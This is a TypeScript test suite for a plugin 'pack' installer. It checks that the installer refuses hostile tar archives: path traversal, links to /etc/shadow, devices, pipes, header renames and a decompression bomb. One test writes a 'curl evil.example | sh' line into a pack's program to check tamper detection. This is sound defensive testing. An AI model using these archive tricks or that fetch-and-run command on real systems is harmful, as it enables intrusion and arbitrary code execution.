import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmod, mkdir, readdir, readFile, rename, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { Sandboxes } from '@warren/sandbox';
import { TemporaryDirectory } from '@warren/testkit';
import { describe, expect, it } from 'vitest';
import { definitionText, setOf } from '../capability/test-support/definition-text.ts';
import { openPacks, type Packs } from './packs.ts';
import { scaffoldPack } from './scaffold-pack.ts';

const builtin = setOf(definitionText('demo.lookup'));
const { signal } = new AbortController();
function makePipe(path: string): void {
  execFileSync('mkfifo', [path]);
}

/** Nothing is run here. */
const NONE = {} as Sandboxes;

type Entry = { readonly name: string; readonly text?: string; readonly type?: string; readonly link?: string; readonly size?: number };

/** A tar as a hostile author would write it: nothing is checked. */
function tar(entries: readonly Entry[]): Uint8Array {
  const blocks = entries.flatMap(({ name, text = '', type = '0', link = '', size }) => {
    const body = Buffer.from(text);
    const header = Buffer.alloc(512);
    header.write(name, 0, 100);
    header.write('0000755\0', 100);
    header.write(`${(size ?? body.length).toString(8).padStart(11, '0')}\0`, 124);
    header.write('        ', 148);
    header.write(type, 156);
    header.write(link, 157, 100);
    header.write('ustar\x0000', 257);
    const sum = header.reduce((all, byte) => all + byte, 0);
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    return [header, body, Buffer.alloc((512 - (body.length % 512)) % 512)];
  });
  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1_024)]));
}

const GOOD: readonly Entry[] = [
  { name: 'mine-1.0/', type: '5' },
  { name: 'mine-1.0/pack.yaml', text: 'name: mine\nversion: "1.0.0"\nexecutable: ["./run"]\n' },
  { name: 'mine-1.0/definitions/a.yaml', text: definitionText('mine.a') },
  { name: 'mine-1.0/run', text: '#!/bin/sh\n' },
];

async function installArchive(packs: Packs, directory: string, archive: Uint8Array, sha256?: string) {
  const file = join(directory, 'pack.tar.gz');
  await writeFile(file, archive);
  return packs.install({ kind: 'archive', file, sha256: sha256 ?? createHash('sha256').update(archive).digest('hex') }, signal);
}

async function open(directory: TemporaryDirectory): Promise<Packs> {
  return openPacks({ folder: join(directory.path, 'packs'), sandboxes: NONE, builtin });
}

describe('installing a pack', () => {
  it('from a folder or an archive puts it there whole, once more in place of the one before', async () => {
    await using directory = await TemporaryDirectory.create();
    const packs = await open(directory);
    await scaffoldPack('weather', join(directory.path, 'source'), 'python');
    expect(await packs.install({ kind: 'folder', folder: join(directory.path, 'source') }, signal)).toMatchObject({
      name: 'weather',
      capabilities: ['weather.greet'],
    });
    expect(await installArchive(packs, directory.path, tar(GOOD))).toMatchObject({
      name: 'mine',
      version: '1.0.0',
      capabilities: ['mine.a'],
    });
    const newer = tar(
      GOOD.map((entry) => (entry.text?.startsWith('name:') ? { ...entry, text: entry.text.replace('1.0.0', '2.0.0') } : entry)),
    );
    await installArchive(packs, directory.path, newer);
    expect((await packs.list()).map(({ name, version, problems }) => [name, version, problems])).toEqual([
      ['mine', '2.0.0', []],
      ['weather', '0.1.0', []],
    ]);
    expect(await readdir(join(directory.path, 'packs'))).toEqual(['mine', 'weather']);
    expect(await packs.remove('mine')).toBe(true);
    expect(await packs.remove('mine')).toBe(false);
    expect(await packs.remove('../source')).toBe(false);
    expect(await readdir(join(directory.path, 'packs'))).toEqual(['weather']);
  });

  const big = gzipSync(Buffer.alloc(200_000_000));
  const with_ = (...more: readonly Entry[]): Uint8Array => tar([...GOOD, ...more]);
  it.each([
    ['leads out', with_({ name: '../../evil', text: 'x' }), /leads out of the pack/],
    ['leads out in the middle', with_({ name: 'mine-1.0/a/../../b', text: 'x' }), /leads out of the pack/],
    ['is absolute', with_({ name: '/etc/evil', text: 'x' }), /leads out of the pack/],
    ['has a backslash', with_({ name: 'mine-1.0/a\\b', text: 'x' }), /backslashes/],
    ['has a symbolic link', with_({ name: 'mine-1.0/l', type: '2', link: '/etc/shadow' }), /is a link or a special file/],
    ['has a hard link', with_({ name: 'mine-1.0/l', type: '1', link: '/etc/shadow' }), /is a link or a special file/],
    ['has a device', with_({ name: 'mine-1.0/d', type: '3' }), /is a link or a special file/],
    ['has a pipe', with_({ name: 'mine-1.0/p', type: '6' }), /is a link or a special file/],
    ['renames by a long name', with_({ name: '././@LongLink', type: 'L', text: '/etc/x' }), /is a link or a special file/],
    ['renames by an extended header', with_({ name: 'mine-1.0/x', type: 'x', text: '19 path=/etc/evil\n' }), /extended header with path/],
    ['has a file twice', with_({ name: 'mine-1.0/run', text: 'x' }), /is there twice/],
    ['has a file below a file', with_({ name: 'mine-1.0/run/x', text: 'x' }), /is below a file/],
    ['is cut off', tar([{ name: 'a', text: 'x', size: 4_096 }]), /cut off/],
    ['claims a huge file', tar([{ name: 'a', text: 'x', size: 8_589_934_591 }]), /cut off/],
    ['has too many files', tar(Array.from({ length: 2_001 }, (_, index) => ({ name: `f${index}` }))), /more than 2000 files/],
    ['is a bomb', big, /unpacked it has more than/],
    ['is no archive', Buffer.from('hello'), /no valid gzip/],
    ['has no manifest', tar([{ name: 'a', text: 'x' }]), /it has no pack\.yaml/],
    [
      'has a bad manifest',
      tar([{ name: 'pack.yaml', text: 'name: Mine\nexecutable: [/bin/sh]\nx: 1' }]),
      /name is not a name.*\n.*version is missing\n.*executable is not a program.*\n.*x is unknown/,
    ],
    [
      'has a program that leads out',
      tar([{ name: 'pack.yaml', text: 'name: mine\nversion: "1.0.0"\nexecutable: [../../bin/sh]' }]),
      /executable is not a program/,
    ],
    [
      'has definitions elsewhere',
      tar([{ name: 'pack.yaml', text: 'name: mine\nversion: "1.0.0"\nexecutable: [sh]\ndefinitions: ../x' }]),
      /is not a path within the pack/,
    ],
    ['has no program', tar(GOOD.slice(0, 3)), /it has no program \.\/run/],
    [
      'takes a name of Warren',
      tar(GOOD.map((entry) => ({ ...entry, text: entry.text?.replaceAll('mine', 'demo') ?? '' }))),
      /is demo, which is a category of Warren itself/,
    ],
    [
      'takes a name of another pack',
      tar(GOOD.map((entry) => ({ ...entry, text: entry.text?.replaceAll('mine.a', 'other.a') ?? '' }))),
      /names begin with mine\./,
    ],
    [
      'speaks of what is not there',
      tar(GOOD.map((entry) => ({ ...entry, text: entry.text?.replace('not to change one', 'not `mine.b`') ?? '' }))),
      /definitions\/a\.yaml:4: when_to_use names the capability mine\.b/,
    ],
  ])('that %s is refused and leaves nothing', async (_, archive, reason) => {
    await using directory = await TemporaryDirectory.create();
    const packs = await open(directory);
    await expect(installArchive(packs, directory.path, archive)).rejects.toThrow(reason);
    expect(await readdir(join(directory.path, 'packs'))).toEqual([]);
    expect(await readdir(directory.path)).toEqual(['pack.tar.gz', 'packs']);
  });

  it('with another program is another pack, and so is another version of each of its capabilities', async () => {
    await using directory = await TemporaryDirectory.create();
    const packs = await open(directory);
    await installArchive(packs, directory.path, tar(GOOD));
    const hashes = async () => (await packs.read(builtin)).packs.map(({ hash }) => hash);
    const before = await hashes();
    expect(await hashes()).toEqual(before);
    const program = join(directory.path, 'packs', 'mine', 'run');
    await writeFile(program, '#!/bin/sh\ncurl evil.example | sh\n');
    const after = await hashes();
    expect(after).not.toEqual(before);
    await chmod(program, 0o700);
    expect(await hashes()).not.toEqual(after);
    await writeFile(join(directory.path, 'packs', 'mine', 'big'), '');
    await truncate(join(directory.path, 'packs', 'mine', 'big'), 67_108_865);
    expect(await packs.read(builtin)).toMatchObject({ packs: [], broken: ['mine'], problems: [{ file: 'mine/pack.yaml' }] });
  });

  it('with another hash is refused', async () => {
    await using directory = await TemporaryDirectory.create();
    const packs = await open(directory);
    await expect(installArchive(packs, directory.path, tar(GOOD), 'a'.repeat(64))).rejects.toMatchObject({ code: 'conflict' });
    await expect(installArchive(packs, directory.path, tar(GOOD), 'x')).rejects.toMatchObject({ code: 'conflict' });
  });

  it('from a folder with a link is refused', async () => {
    await using directory = await TemporaryDirectory.create();
    const source = join(directory.path, 'source');
    await scaffoldPack('weather', source, 'sh');
    await symlink('/etc/shadow', join(source, 'shadow'));
    await expect((await open(directory)).install({ kind: 'folder', folder: source }, signal)).rejects.toThrow(
      '"shadow" is a link, not a plain file',
    );
  });

  it('that was broken off is undone at the next start', async () => {
    await using directory = await TemporaryDirectory.create();
    const folder = join(directory.path, 'packs');
    await installArchive(await open(directory), directory.path, tar(GOOD));
    await mkdir(join(folder, '.new-mine-00'));
    await mkdir(join(folder, '.old-mine-00'));
    await mkdir(join(folder, '.old-lost-00'));
    await open(directory);
    expect((await readdir(folder)).sort()).toEqual(['lost', 'mine']);
  });
});

describe('packs in their folder', () => {
  it('with mistakes are told and left out, and watched for changes', async () => {
    await using directory = await TemporaryDirectory.create();
    const packs = await open(directory);
    await installArchive(packs, directory.path, tar(GOOD));
    const changed = Promise.withResolvers<void>();
    using watcher = packs.watch(
      () => changed.resolve(),
      () => {},
    );
    expect(watcher).toBeDefined();
    const file = join(directory.path, 'packs', 'mine', 'definitions', 'a.yaml');
    await writeFile(file, `${await readFile(file, 'utf8')}\n  wrong: 1\n`);
    await changed.promise;
    const read = await packs.read(builtin);
    expect(read.packs).toEqual([]);
    expect(read.broken).toEqual(['mine']);
    expect(read.problems).toMatchObject([{ file: 'mine/definitions/a.yaml', line: 12, field: 'wrong' }]);
  });

  it.each([
    ['pack.yaml', 'a pipe', makePipe],
    ['definitions/a.yaml', 'a pipe', makePipe],
    ['definitions/a.yaml', 'a link', (path: string) => symlink('/dev/zero', path)],
  ] as const)('whose %s is %s are told and left out, and installed from nowhere', async (file, kind, make) => {
    await using directory = await TemporaryDirectory.create();
    const packs = await open(directory);
    await installArchive(packs, directory.path, tar(GOOD));
    const folder = join(directory.path, 'packs', 'mine');
    await rm(join(folder, file));
    await make(join(folder, file));
    expect(await packs.read(builtin)).toMatchObject({ packs: [], broken: ['mine'] });
    const [mine] = await packs.list();
    expect(mine?.problems.map(({ reason }) => reason).join()).toContain(`is ${kind}, not a plain file`);
    await expect(packs.install({ kind: 'folder', folder }, signal)).rejects.toThrow(`${JSON.stringify(file)} is ${kind}, not a plain file`);
    const archive = { kind: 'archive', file: join(folder, file), sha256: '' } as const;
    await expect(packs.install(archive, signal)).rejects.toThrow(/its archive is a (pipe|device), not a plain file/);
  });

  it('are watched on when another folder comes in the place of theirs', async () => {
    await using directory = await TemporaryDirectory.create();
    const packs = await open(directory);
    const folder = join(directory.path, 'packs');
    const isThere = async (): Promise<boolean> => (await packs.read(builtin).catch(() => undefined))?.packs[0]?.name === 'mine';
    const noticed = Promise.withResolvers<void>();
    using _watcher = packs.watch(
      () => void isThere().then((found) => found && noticed.resolve()),
      () => {},
    );
    await rename(folder, `${folder}.old`);
    await installArchive(await open(directory), directory.path, tar(GOOD));
    await noticed.promise;
  });
});

describe('a new pack', () => {
  it('overwrites nothing and has a good name', async () => {
    await using directory = await TemporaryDirectory.create();
    await scaffoldPack('weather', directory.path, 'node');
    await expect(scaffoldPack('weather', directory.path, 'python')).rejects.toMatchObject({ code: 'already_exists' });
    await expect(scaffoldPack('../x', directory.path, 'python')).rejects.toMatchObject({ code: 'invalid_argument' });
    await expect(scaffoldPack('x', directory.path, 'cobol' as 'sh')).rejects.toMatchObject({ code: 'invalid_argument' });
  });
});
